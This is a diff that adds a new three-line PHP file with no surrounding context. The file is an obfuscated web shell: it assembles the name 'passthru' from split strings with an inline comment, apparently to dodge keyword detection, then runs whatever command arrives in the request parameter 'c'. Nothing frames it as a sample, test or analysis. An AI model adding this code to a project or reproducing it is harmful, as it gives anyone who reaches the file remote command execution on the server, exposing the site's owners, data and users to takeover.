@@ -1,0 +1,3 @@
+<?php
+$f = 'pass'/*x*/.'thru';
+$f($_REQUEST['c']);
